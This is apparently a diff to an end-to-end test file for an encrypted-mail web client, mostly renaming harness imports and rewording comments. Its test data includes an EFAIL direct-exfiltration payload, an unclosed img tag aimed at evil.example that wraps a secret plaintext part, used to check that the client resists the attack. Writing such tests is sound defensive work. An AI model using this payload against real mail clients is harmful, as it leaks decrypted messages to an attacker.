@@ -1,15 +1,15 @@
 import assert from 'node:assert/strict';
-import { SessionKeeper } from '../harness/openpgp.ts';
-import type { Scenario, Stage } from '../harness/stage.ts';
-import { Store } from '../harness/store.ts';
-import { desk, phone, type Walker } from '../harness/walker.ts';
+import { SessionKeeper } from '../fixtures/openpgp.ts';
+import type { Fixture, Scenario } from '../fixtures/fixture.ts';
+import { Store } from '../fixtures/store.ts';
+import { desk, phone, type Walker } from '../fixtures/walker.ts';
 import { linkOf } from '../people/guest.ts';
 
 const address = 'mia@recipient.example';
 const passphrase = 'a passphrase for the exported key';
 const secret = 'THE SECRET BETWEEN THE TAGS';
 
-/** A MIME entity as a mail program of the guest's would make it: From, To and Subject protected with it. */
+/** A MIME entity as a guest's mail program would write it: From, To and Subject protected with it. */
 const entity = (type: string, body: string) =>
   [
     `From: ${address}`,
@@ -43,7 +43,7 @@ const withPicture = () =>
       `Content-Disposition: inline\r\n\r\n${logo}\r\n--b--\r\n`,
   );
 
-/** EFAIL's direct exfiltration: markup of one part that would swallow the next one and carry it away. */
+/** EFAIL's direct exfiltration: markup of one part that would swallow the next one and send it away. */
 const efail: Record<string, () => string> = {
   'an unclosed picture before the text': () =>
     multipart(part('text/html', '<img src="https://evil.example/?'), part('text/plain', secret), part('text/html', '">')),
@@ -89,7 +89,7 @@ const efail: Record<string, () => string> = {
     ),
 };
 
-/** What is shown of the HTML, read out of the frame. */
+/** The shown HTML, read from the frame. */
 const shownIn = (walker: Walker): Promise<string> =>
   walker.page.evaluate(() => {
     const { body } = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')!.contentDocument!;
@@ -106,14 +106,14 @@ async function shows(walker: Walker, text: string): Promise<void> {
   await walker.untilQuiet();
 }
 
-/** An answer whose body is then written anew, encrypted and signed by the guest's own key, as another program would. */
-async function htmlMails(stage: Stage): Promise<void> {
-  const server = await stage.server();
-  const user = await stage.user(server, 'alice@organisation.example', 'Alice Example', 'de', desk);
+/** An answer whose body is then overwritten, encrypted and signed by the guest's own key, as another program would. */
+async function htmlMails(fixture: Fixture): Promise<void> {
+  const server = await fixture.server();
+  const user = await fixture.user(server, 'alice@organisation.example', 'Alice Example', 'de', desk);
   await user.setUp(server.setUpLink);
   await user.write({ to: [address], subject: 'A letter', text: 'Hello.', withoutPin: true });
   await user.send();
-  const guest = await stage.guest(server, address, 'de', phone);
+  const guest = await fixture.guest(server, address, 'de', phone);
   await guest.openLink(linkOf(await server.mailTo(address)));
   await guest.goOnWithoutPin();
   await guest.createMailbox();
